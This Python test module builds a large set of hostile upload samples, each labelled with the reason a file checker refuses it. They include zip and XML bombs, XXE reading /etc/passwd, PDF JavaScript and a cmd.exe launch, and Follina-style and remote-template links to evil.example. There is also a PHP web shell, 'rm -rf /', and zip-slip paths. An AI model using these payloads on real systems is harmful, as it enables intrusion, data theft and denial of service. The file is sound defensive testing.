"""Files made to harm, each with the reason for which it is refused; large ones are made when asked for."""

import os
import struct
from collections.abc import Callable

from tests.ports.made_files import (
    EXCEL,
    WELL,
    a_docx,
    a_jpeg,
    a_pdf,
    a_png,
    a_webp,
    an_archive,
    an_object_stream,
    an_odt,
    docx_parts,
    relations,
    types,
)  # fmt: skip

LAUGHS = "<!DOCTYPE l [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><l>&b;</l>"
XXE = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"
JAVASCRIPT = b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n"
DOCUMENT_RELS, SETTINGS_RELS = "word/_rels/document.xml.rels", "word/_rels/settings.xml.rels"
EVIL = "https://evil.example"


def a_patched(data: bytes, old: bytes, new: bytes) -> bytes:
    assert old in data
    assert len(old) == len(new)
    return data.replace(old, new)


def a_bomb() -> bytes:
    """What is packed so well that it can be nothing but a bomb."""
    return an_archive(docx_parts({"word/bomb.xml": b"<a>" + b" " * 60_000_000 + b"</a>"}), packed=WELL)


def a_lying_bomb() -> bytes:
    """Its list of parts says 1,000 bytes; what is packed is 30 MB."""
    data = an_archive(docx_parts({"word/bomb.xml": b"<a>" + b" " * 30_000_000 + b"</a>"}))
    return a_patched(data, struct.pack("<L", 30_000_007), struct.pack("<L", 1_000))


def an_overlapping_bomb(copies: int = 300) -> bytes:
    """Every entry of the list points at the same packed bytes."""
    data = an_archive({"a.xml": b" " * 1_000_000})
    at = data.index(b"PK\1\2")
    entry = data[at : data.index(b"PK\5\6")]
    entries = b"".join(entry.replace(b"a.xml", b"%05d" % n) for n in range(copies))
    return data[:at] + entries + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, copies, copies, len(entries), at, 0)


def a_crowd(parts: int = 60_000) -> bytes:
    """One empty part so many times, each with a name and a place of its own."""
    data = an_archive({"00000.xml": b""})
    at, end = data.index(b"PK\1\2"), data.index(b"PK\5\6")
    part, entry = data[:at], data[at : end - len("00000.xml") - 4]
    names = [b"%05d.xml" % n for n in range(parts)]
    entries = b"".join(entry + struct.pack("<L", n * at) + name for n, name in enumerate(names))
    closing = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, parts, parts, len(entries), parts * at, 0)
    return b"".join(part.replace(b"00000.xml", name) for name in names) + entries + closing


def with_a_stuffed_part(data: bytes, behind: bytes = b"MZ" * 40) -> bytes:
    """The last part has bytes behind the end of what unpacks, and its packed size covers them."""
    made = bytearray(data)
    local, listed, directory = made.rindex(b"PK\3\4"), made.rindex(b"PK\1\2"), made.index(b"PK\1\2")
    for at in (local + 18, listed + 20):
        made[at : at + 4] = struct.pack("<L", struct.unpack_from("<L", made, at)[0] + len(behind))
    made[-6:-2] = struct.pack("<L", directory + len(behind))
    return bytes(made[:directory]) + behind + bytes(made[directory:])


def dense_markup(elements: int = 2_000_000, one: str = "<b{}/>") -> str:
    """So many elements, each with a number of its own; they are written by the thousand, because there are millions."""
    thousand = "".join(one.format(f"#{n:03}") for n in range(1_000))
    return f"<a>{''.join(thousand.replace('#', str(n)) for n in range(elements // 1_000))}</a>"


def with_a_hidden_tail_in(data: bytes) -> bytes:
    """Bytes between the last part and the list of parts, where no reader looks."""
    at, hidden = data.index(b"PK\1\2"), b"MZ" + b"\0" * 50
    end = bytearray(data[-22:])
    end[16:20] = struct.pack("<L", at + len(hidden))
    return data[:at] + hidden + data[at:-22] + bytes(end)


HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "page.pdf": (b"<!DOCTYPE html><script>alert(1)</script>", "web page"),
    "page.txt": (b"\n\n <HTML><body onload=alert(1)>", "web page"),
    "page.xml": (b"<x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:script/></x:html>", "browsers run"),
    "drawing.xml": (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "browsers run"),
    "inner.xml": (b"<card><s:g xmlns:s='http://www.w3.org/2000/svg'/></card>", "browsers run"),
    "styled.xml": (b"<?xml-stylesheet href='evil.xsl'?><card/>", "style sheet"),
    "laughs.xml": (LAUGHS.encode(), "DOCTYPE"),
    "xxe.xml": (XXE.encode(), "DOCTYPE"),
    "deep.xml": (lambda: b"<a>" * 100_000 + b"</a>" * 100_000, "200 deep"),
    "wide.xml": ("<?xml version='1.0'?><a>\N{BOM}</a>".encode("utf-16"), "UTF-8"),
    "windows.pdf": (b"MZ\x90\0" + b"\0" * 500, "a program"),
    "linux.csv": (b"\x7fELF\2\1\1" + b"\0" * 500, "a program"),
    "script.txt": (b"#!/bin/sh\nrm -rf /\n", "a script"),
    "php.txt": (b"\xef\xbb\xbf<?php system($_GET[0]);", "a script"),
    "old.docx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "old or locked Office"),
    "rich.txt": (rb"{\rtf1{\object\objemb}}", "RTF"),
    "cat.png": (b"GIF89a/*\1\0\0\0*/=1;alert(1)", "picture of a kind"),
    "nul.csv": (b"a,b\n1,\0\n", "control character U+0000"),
    "latin.csv": ("naïve".encode("latin-1"), "UTF-8: byte 3"),
    "action.pdf": (a_pdf(JAVASCRIPT), "JavaScript"),
    "spelled.pdf": (a_pdf(b"1 0 obj << /A << /S/J#61va#53cript /JS (x) >> >> endobj\n"), "JavaScript"),
    "indirect.pdf": (a_pdf(b"1 0 obj/JavaScript endobj 2 0 obj << /S 1 0 R >> endobj\n"), "JavaScript"),
    "launch.pdf": (a_pdf(b"1 0 obj << /A << /S /Launch /F (cmd.exe) >> >> endobj\n"), "Launch"),
    "packed.pdf": (a_pdf(an_object_stream(b"1 0 " + JAVASCRIPT)), "JavaScript"),
    "twice packed.pdf": (
        a_pdf(an_object_stream(b"x", b"/Type /ObjStm /Filter [/FlateDecode /ASCII85Decode]")), "cannot be checked"
    ),
    "bomb.pdf": (lambda: a_pdf(an_object_stream(b" " * 70_000_000)), "unpacks to more"),
    "locked.pdf": (a_pdf(b"1 0 obj << >> endobj\n").replace(b"/Root", b"/Encrypt 9 0 R /Root"), "protected"),
    "pdf and page.pdf": (a_pdf(b"<script>alert(1)</script>"), "something else at once"),
    "pdf and archive.pdf": (a_pdf() + a_docx(), "archive behind"),
    "pdf and program.pdf": (a_pdf() + b"MZ" + b"\0" * 500, "behind its end"),
    "macro.docx": (a_docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macro"),
    "enabled.docx": (
        a_docx(**{"[Content_Types].xml": types("application/vnd.ms-word.document.macroEnabled.main+xml")}), "macros"
    ),
    "template.docx": (
        a_docx(**{SETTINGS_RELS: relations("attachedTemplate", f"{EVIL}/t.dotm")}), "fetches"
    ),
    "share.docx": (
        a_docx(**{SETTINGS_RELS: relations("attachedTemplate", r"\\evil.example\t.dotm")}), "fetches"
    ),
    "follina.docx": (
        a_docx(**{DOCUMENT_RELS: relations("oleObject", f"mhtml:{EVIL}!x-usc:")}), "fetches"
    ),
    "pixel.docx": (
        a_docx(**{DOCUMENT_RELS: relations("image", f"{EVIL}/p.png")}), "fetches"
    ),
    "unsaid.docx": (
        a_docx(**{DOCUMENT_RELS: relations("image", f"{EVIL}/p.png", "Internal")}), "fetches"
    ),
    "object.docx": (a_docx(**{"word/embeddings/oleObject1.bin": b"MZ"}), "embedded object"),
    "program.docx": (a_docx(**{"word/media/image1.exe": b"MZ"}), "none needs"),
    "page in.docx": (a_docx(**{"word/afchunk.htm": b"<script>"}), "another file"),
    "xxe.docx": (a_docx(**{"word/document.xml": XXE}), "DOCTYPE"),
    "laughs.docx": (a_docx(**{"word/styles.xml": LAUGHS.encode("utf-16")}), "DOCTYPE"),
    "nested.docx": (
        a_docx(**{"word/embeddings/a.docx": a_docx(**{"word/embeddings/b.docx": a_docx()})}), "too much packed"
    ),
    "hidden.docx": (a_docx(**{"word/embeddings/a.docx": a_docx(**{"word/vbaProject.bin": b""})}), "macro"),
    "links.xlsx": (
        an_archive({"[Content_Types].xml": types(EXCEL), "xl/externalLinks/link1.xml": "<ddeLink/>"}), "another file"
    ),
    "remote.odt": (an_odt("<draw:image xlink:href='https://evil.example/p.png'/>"), "fetches"),
    "parent.odt": (an_odt("<text:section-source xlink:href='../secret.odt'/>"), "fetches"),
    "listener.odt": (an_odt("<script:event-listener/>"), "runs a macro"),
    "basic.odt": (an_odt(**{"Basic/Standard/Module1.xml": "<m/>"}), "macro"),
    "archive.docx": (an_archive({"a.txt": b"hello"}), "an archive"),
    "slip.docx": (a_docx(**{"../../etc/cron.d/x.xml": "<x/>"}), "points elsewhere"),
    "absolute.docx": (a_docx(**{"/etc/x.xml": "<x/>"}), "points elsewhere"),
    "drive.docx": (a_docx(**{"C:\\x.xml": "<x/>"}), "points elsewhere"),
    "two of a name.docx": (a_docx(**{"Word/Document.xml": "<x/>"}), "two parts of one name"),
    "bomb.docx": (a_bomb, "cannot be true"),
    "big bomb.docx": (lambda: a_docx(**{f"word/b{n}.xml": b" " * 26_000_000 for n in range(4)}), "unpacks to 104 MB"),
    "lying bomb.docx": (a_lying_bomb, "cannot be true"),
    "overlap.docx": (an_overlapping_bomb, "unpacks to 300 MB"),
    "small overlap.docx": (lambda: an_overlapping_bomb(50), "second file hidden"),
    "crowd.docx": (a_crowd, "60,000 parts"),
    "locked.docx": (a_patched(a_docx(), b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0"), "with a password"),
    "before.docx": (b"PK\3\4<script>alert(1)</script>" + a_docx(), "something else at once"),
    "comment.docx": (an_archive(docx_parts({}), comment=b"MZ" * 600), "second file hidden"),
    "between.docx": (with_a_hidden_tail_in(a_docx()), "second file hidden"),
    "stuffed.docx": (with_a_stuffed_part(a_docx()), "second file hidden"),
    "changed.docx": (a_patched(an_odt(), b"opendocument.text", b"opendocument.tex!"), "not what it declares"),
    "trailing.png": (a_png(behind=b"alert(1)"), "behind its end"),
    "huge.png": (a_png(60_000, 60_000), "60,000 by 60,000 pixels"),
    "zip.png": (a_png(behind=an_archive({"a": b"b"})), "archive behind"),
    "script.jpg": (a_jpeg(first=b"/*" + b"\0" * 0x2F28), "damaged"),
    "huge.jpg": (a_jpeg(size=60_000), "60,000 by 60,000 pixels"),
    "trailing.jpg": (a_jpeg() + b"<?php system($_GET[0]);", "behind its end"),
    "pdf.jpg": (a_jpeg(first=b"\x00\x18JFIF\0\1\1\0\0\1\0\1\0\0%PDF-1.7"), "something else at once"),
    "trailing.webp": (a_webp(behind=b"alert(1)"), "behind its end"),
    "huge.webp": (a_webp(16_000, 16_000), "16,000 by 16,000 pixels"),
}  # fmt: skip
SLOW: dict[str, Callable[[], bytes]] = {
    "slashes.pdf": lambda: a_pdf(b"/J" * 12_000_000),
    "streams.pdf": lambda: a_pdf(an_object_stream(b"1 0 << >>") * 100_000),
    "spaces.pdf": lambda: a_pdf(b">>" + b" " * 20_000_000),
    "fill.jpg": lambda: a_jpeg(scan=b"\xff" * 20_000_000 + b"\0"),
    "scans.jpg": lambda: b"\xff\xd8" + b"\xff\xda\0\2\0" * 4_000_000 + b"\xff\xd9",
    "chunks.png": lambda: a_png()[:-12] + b"\0\0\0\0tEXt\0\0\0\0" * 2_000_000 + a_png()[-12:],
    "chunks.webp": lambda: a_webp(behind=b"EXIF\0\0\0\0" * 2_500_000),
    "dense.docx": lambda: a_docx(**{"word/dense.xml": dense_markup()}),
    "dense.odt": lambda: an_odt("<b/>" * 1_000 + dense_markup(1_000_000)),
    "names.xml": lambda: dense_markup(1_000_000).encode(),
    "elements.xml": lambda: b"<a>" + b"<b c='1'/>" * 2_000_000 + b"</a>",
    "spaces.xml": lambda: dense_markup(500_000, "<b xmlns:n{}='u'/>").encode(),
    "attribute.xml": lambda: b"<a b='" + b"x" * 25_000_000 + b"'/>",
    "comment.xml": lambda: b"<a><!--" + b"x" * 25_000_000 + b"--></a>",
    "attribute.odt": lambda: an_odt("<b c='" + os.urandom(3_000_000).hex() * 2 + "'/>"),
    "prolog.docx": lambda: a_docx(**{"word/long.xml": b"<!--" + os.urandom(3_000_000).hex().encode() + b"--><a/>"}),
    "rows.csv": lambda: b"a,b\n" * 6_000_000,
}

LARGE = {name: made for name, (made, _) in HOSTILE.items() if callable(made)} | SLOW
